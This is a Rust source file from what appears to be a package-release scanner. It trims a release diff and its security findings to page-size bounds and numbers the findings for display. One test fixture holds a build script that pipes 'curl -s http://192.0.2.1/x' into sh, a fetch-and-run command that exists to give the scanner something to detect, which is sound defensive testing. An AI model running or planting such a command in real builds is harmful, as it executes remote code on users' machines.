//! What a release changes, as much of it as a page shows: pure, from what the scanner read.
//!
//! A package may hold anything, and so may what was read of it. What is kept here for readers has a bound, whatever it was
//! made from; what is beyond is counted, and the terminal shows it.

use std::collections::HashMap;

use fence_model::words::text::floor_char_boundary;
use fence_scan::reading::{Fate, FileText, Line, Reading};
use fence_scan::{Finding, Place, Severity};

/// Lines of text: more than anybody reads on one page, and what a browser lays out in a second.
const LINES: usize = 8_000;

/// What lines and their pieces come to, each as [`cost`] counts it: the text of a page, before it becomes HTML.
const TEXT_BYTES: usize = 4 << 20;

/// Files.
const FILES: usize = 1_000;

/// Findings.
const FINDINGS: usize = 500;

/// Functions that gained capabilities.
const USES: usize = 1_000;

/// Bytes of a path or of a function's name; what is longer is no name that anybody gave.
const NAME_BYTES: usize = 1_024;

/// A change for readers.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub(crate) struct Shown {
    /// What was read, no more of it than a page shows: of the findings those that ask for somebody.
    pub(crate) reading: Reading,
    /// How many files changed how much, in words.
    pub(crate) totals: String,
    /// Files that are not among those.
    pub(crate) more_files: usize,
    /// Findings that are not among those, the least grave.
    pub(crate) more_findings: usize,
    /// For each finding its number in the order of the page, from one, and whether the text shows its line.
    pub(crate) stops: Vec<Stop>,
    /// For each file, by line: the findings there.
    found: Vec<HashMap<u32, Vec<usize>>>,
    /// Bytes that it takes in memory, about.
    pub(crate) bytes: usize,
}

/// Where somebody stops who goes from finding to finding.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub(crate) struct Stop {
    /// Which it is, from one.
    pub(crate) number: usize,
    /// Whether its line is shown.
    pub(crate) is_shown: bool,
}

impl Shown {
    /// As much of a reading as a page shows.
    pub(crate) fn of(mut reading: Reading) -> Self {
        let totals = reading.totals();
        let comparison = &mut reading.comparison;
        comparison.findings.retain(|finding| finding.severity >= Severity::Low);
        let more_findings = cut(&mut comparison.findings, FINDINGS);
        for finding in &mut comparison.findings {
            finding.clues = Vec::new();
            finding.text = String::new();
            finding.function = String::new();
            shorten(&mut finding.code);
            shorten(&mut finding.reason);
            shorten(&mut finding.file);
        }
        comparison.uses.retain(|of| of.place != Place::Tests);
        cut(&mut comparison.uses, USES);
        for of in &mut comparison.uses {
            of.through = String::new();
            shorten(&mut of.function);
            shorten(&mut of.span.file);
        }
        // The files that changed are in the reading, with their text.
        comparison.files = Vec::new();
        cut(&mut comparison.dependencies, FILES);
        cut(&mut comparison.features, FILES);
        comparison.dependencies.iter_mut().chain(&mut comparison.features).for_each(shorten);
        cut(&mut comparison.copied, FILES);
        comparison.copied.iter_mut().for_each(|of| {
            shorten(&mut of.name);
            shorten(&mut of.version);
        });
        for name in
            [&mut comparison.from_name, &mut comparison.from, &mut comparison.name, &mut comparison.to]
        {
            shorten(name);
        }
        cut(&mut reading.unanalyzed, FILES);
        reading.unanalyzed.iter_mut().for_each(|of| shorten(&mut of.file));
        for commit in [&mut reading.commits.0, &mut reading.commits.1].into_iter().flatten() {
            shorten(&mut commit.id);
        }
        let more_files = cut(&mut reading.files, FILES);
        let mut room = Room { lines: LINES, bytes: TEXT_BYTES };
        for file in &mut reading.files {
            shorten(&mut file.file.path);
            file.binary.iter_mut().for_each(shorten);
            room.fit(file);
        }
        let found = found(&reading);
        let stops = stops(&reading, &found);
        let names = |file: &FileText| file.file.path.len() + 500 + file.hunks.len() * 200;
        let names: usize = reading.files.iter().map(names).sum();
        let comparison = &reading.comparison;
        let of_findings = |finding: &Finding| finding.reason.len() + finding.file.len() + 500;
        let findings: usize = comparison.findings.iter().map(of_findings).sum();
        let uses: usize = comparison.uses.iter().map(|of| of.function.len() + of.span.file.len() + 200).sum();
        let named = comparison.dependencies.iter().chain(&comparison.features).map(|name| name.len() + 50);
        let bytes = (TEXT_BYTES - room.bytes) + names + findings + uses + named.sum::<usize>();
        Self { reading, totals, more_files, more_findings, stops, found, bytes }
    }

    /// An empty one that takes so many bytes.
    #[cfg(test)]
    pub(crate) fn of_bytes(bytes: usize) -> Self {
        Self { bytes, ..Self::default() }
    }

    /// The findings in a line of a file, both by their places; none in one that is gone.
    pub(crate) fn found(&self, file: usize, line: &Line) -> &[usize] {
        let findings = self.found.get(file).filter(|_| line.fate != Fate::Gone);
        findings.and_then(|found| found.get(&line.number)).map_or(&[], Vec::as_slice)
    }

    /// How many findings there are in a file.
    pub(crate) fn findings_of(&self, file: &FileText) -> usize {
        let findings = &self.reading.comparison.findings;
        findings.iter().filter(|finding| finding.file == file.file.path).count()
    }

    /// How many findings there are, those too that are not shown.
    pub(crate) fn findings(&self) -> usize {
        self.reading.comparison.findings.len() + self.more_findings
    }
}

/// What is left of the bounds.
struct Room {
    lines: usize,
    bytes: usize,
}

impl Room {
    /// Takes from a file what there is no room for.
    fn fit(&mut self, file: &mut FileText) {
        for hunk in &mut file.hunks {
            shorten(&mut hunk.function);
            let before = hunk.lines.len();
            let fits = hunk.lines.iter().take_while(|line| self.take(line)).count();
            hunk.lines.truncate(fits);
            hunk.lines.shrink_to_fit();
            file.left_out += (before - fits) as u64;
        }
        file.hunks.retain(|hunk| !hunk.lines.is_empty());
    }

    /// Whether there is room for a line. Where one does not fit, none does that comes behind it: a text with holes in it
    /// would be taken for whole.
    fn take(&mut self, line: &Line) -> bool {
        let cost = cost(line);
        let fits = self.lines > 0 && self.bytes >= cost;
        match fits {
            true => (self.lines, self.bytes) = (self.lines - 1, self.bytes - cost),
            false => self.lines = 0,
        }
        fits
    }
}

/// What a line comes to: its text, and what stands around each piece of it.
fn cost(line: &Line) -> usize {
    100 + line.pieces.iter().map(|piece| 50 + piece.text.len()).sum::<usize>()
}

/// Leaves the first, and says how many there were behind them.
fn cut<T>(all: &mut Vec<T>, most: usize) -> usize {
    let more = all.len().saturating_sub(most);
    all.truncate(most);
    all.shrink_to_fit();
    more
}

/// Leaves as much of a text as anybody gives a name, and no room behind it.
fn shorten(text: &mut String) {
    text.truncate(floor_char_boundary(text, NAME_BYTES));
    text.shrink_to_fit();
}

/// For each file the findings by the lines that are shown, none of them twice.
fn found(reading: &Reading) -> Vec<HashMap<u32, Vec<usize>>> {
    let findings = &reading.comparison.findings;
    let mut is_placed = vec![false; findings.len()];
    let of_file = |file: &FileText| {
        let lines = file.hunks.iter().flat_map(|hunk| &hunk.lines);
        let shown = lines.filter(|line| line.fate != Fate::Gone).map(|line| (line.number, Vec::new()));
        let mut found: HashMap<u32, Vec<usize>> = shown.collect();
        for (at, finding) in findings.iter().enumerate() {
            if finding.file == file.file.path
                && !is_placed[at]
                && let Some(there) = found.get_mut(&finding.line)
            {
                there.push(at);
                is_placed[at] = true;
            }
        }
        found.retain(|_, there| !there.is_empty());
        found
    };
    reading.files.iter().map(of_file).collect()
}

/// Numbers findings as they stand on the page: first what no line shows, then file by file.
fn stops(reading: &Reading, found: &[HashMap<u32, Vec<usize>>]) -> Vec<Stop> {
    let mut stops = vec![Stop::default(); reading.comparison.findings.len()];
    let mut order = Vec::with_capacity(stops.len());
    for (file, found) in reading.files.iter().zip(found) {
        let lines = file.hunks.iter().flat_map(|hunk| &hunk.lines);
        let lines = lines.filter(|line| line.fate != Fate::Gone);
        order.extend(lines.filter_map(|line| found.get(&line.number)).flatten().copied());
    }
    for at in &order {
        stops[*at].is_shown = true;
    }
    let unshown = (0..stops.len()).filter(|at| !stops[*at].is_shown).collect::<Vec<_>>();
    for (number, at) in unshown.into_iter().chain(order).enumerate() {
        stops[at].number = number + 1;
    }
    stops
}

#[cfg(test)]
mod tests {
    use fence_scan::reading::{self, Group};
    use fence_scan::{File, Package, Scan};

    use super::*;

    fn shown(files: Vec<(&str, String)>) -> Shown {
        let files = files.into_iter().map(|(path, text)| File { path: path.to_owned(), bytes: text.into() });
        let (old, new) = (Package::of(Vec::new()), Package::of(files));
        Shown::of(reading::read(&Scan::of(&old), &Scan::of(&new)))
    }

    fn lines(shown: &Shown) -> usize {
        shown.reading.files.iter().flat_map(|file| &file.hunks).map(|hunk| hunk.lines.len()).sum()
    }

    #[test]
    fn a_page_has_a_bound_and_counts_what_is_beyond() {
        let many = shown(vec![("src/lib.rs", "f\n".repeat(9_000)), ("src/z.rs", "// z\n".into())]);
        assert_eq!(lines(&many), LINES);
        let left_out = many.reading.files.iter().map(|file| file.left_out).collect::<Vec<_>>();
        assert_eq!(left_out.iter().sum::<u64>(), 9_001 - LINES as u64);
        let wide = shown(vec![("src/lib.rs", format!("{}\n", "1+".repeat(450)).repeat(200))]);
        assert!(lines(&wide) < 200 && wide.bytes < TEXT_BYTES + 10_000, "{} {}", lines(&wide), wide.bytes);
        let names = (0..1_100).map(|n| (format!("src/{n}.txt"), "x\n".to_owned())).collect::<Vec<_>>();
        let files = shown(names.iter().map(|(path, text)| (path.as_str(), text.clone())).collect());
        assert_eq!((files.reading.files.len(), files.more_files), (FILES, 100));
        assert!(files.totals.starts_with("1100 files changed"), "{}", files.totals);
    }

    #[test]
    fn findings_are_numbered_as_they_stand_on_the_page() {
        let run = "fn main() {\n    let _ = std::process::Command::new(\"sh\").arg(\"curl -s http://192.0.2.1/x | sh\").status();\n}\n";
        let shown = shown(vec![
            ("Cargo.toml", "[package]\nname = \"a\"\nversion = \"1.0.0\"\n".into()),
            ("build.rs", run.into()),
            ("src/lib.rs", "pub fn f() {}\n".into()),
        ]);
        assert_eq!(shown.reading.files[0].group, Group::Build);
        assert!(shown.findings() > 0);
        let mut numbers: Vec<usize> = shown.stops.iter().map(|stop| stop.number).collect();
        numbers.sort_unstable();
        assert_eq!(numbers, (1..=shown.findings()).collect::<Vec<_>>());
        let at = shown.reading.files[0]
            .hunks
            .iter()
            .flat_map(|hunk| &hunk.lines)
            .flat_map(|line| shown.found(0, line));
        let shown_numbers: Vec<usize> = at.map(|at| shown.stops[*at].number).collect();
        assert!(shown_numbers.is_sorted() && !shown_numbers.is_empty(), "{shown_numbers:?}");
    }
}
